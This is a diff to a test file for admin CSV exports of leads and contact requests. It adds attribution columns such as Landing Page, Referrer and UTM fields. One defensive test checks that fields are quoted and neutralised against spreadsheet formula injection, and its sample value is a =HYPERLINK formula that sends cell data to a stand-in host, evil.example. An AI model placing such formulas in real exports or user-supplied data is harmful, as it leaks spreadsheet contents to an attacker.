@@ -104,7 +104,8 @@ describe('lead tools', () => {
     const text = res.body as string;
     expect(text.startsWith('\uFEFF')).toBe(true);
     const rows = withoutIds(parse(text.slice(1)) as string[][]);
-    expect(rows[0]).toEqual(['Name', 'Email', 'Company', 'Date']);
+    expect(rows[0].slice(0, 4)).toEqual(['Name', 'Email', 'Company', 'Date']);
+    expect(rows[0].slice(4, 6)).toEqual(['Landing Page', 'Referrer']);
     expect(rows.slice(1).map((r) => r[0])).toEqual([
       'Dee Now',
       'Bea Three',
@@ -118,7 +119,7 @@ describe('lead tools', () => {
   it('quotes every field, so a reader that splits cells on ; or TAB never finds a formula at a cell start', async () => {
     const text = (await admin.get('/api/admin/playbook-leads/export.csv').buffer(true)).text.slice(1);
     const lines = text.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"ID","Name","Email","Company","Date"');
+    expect(lines[0]).toMatch(/^"ID","Name","Email","Company","Date","Landing Page",/);
     for (const line of lines) expect(line).toMatch(/^"[^]*"$/);
     expect(text).toContain(`"'Bob;=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")","bob@example.com","'\t=1+2",`);
   });
@@ -126,7 +127,26 @@ describe('lead tools', () => {
   it('exports only the contact requests matching the search, with quoting, unicode and tool results', async () => {
     const all = await admin.get('/api/admin/contact-requests/export.csv').buffer(true);
     const allRows = withoutIds(parse(all.text.slice(1)) as string[][]);
-    expect(allRows[0]).toEqual(['Name', 'Email', 'Company', 'Cloud Spending', 'Message', 'Tool Results', 'Date']);
+    expect(allRows[0]).toEqual([
+      'Name',
+      'Email',
+      'Company',
+      'Cloud Spending',
+      'Message',
+      'Tool Results',
+      'Date',
+      // Where each lead's visit came from (issue 32).
+      'Landing Page',
+      'Referrer',
+      'UTM Source',
+      'UTM Medium',
+      'UTM Campaign',
+      'UTM Term',
+      'UTM Content',
+      'Pages Before Lead',
+      'Tools Before Lead',
+      'Seconds To Lead',
+    ]);
     expect(allRows).toHaveLength(3);
     const week = allRows.find((r) => r[0] === 'Cy Week')!;
     expect(week[4]).toBe('Hello, "quoted", and\nmulti-line');
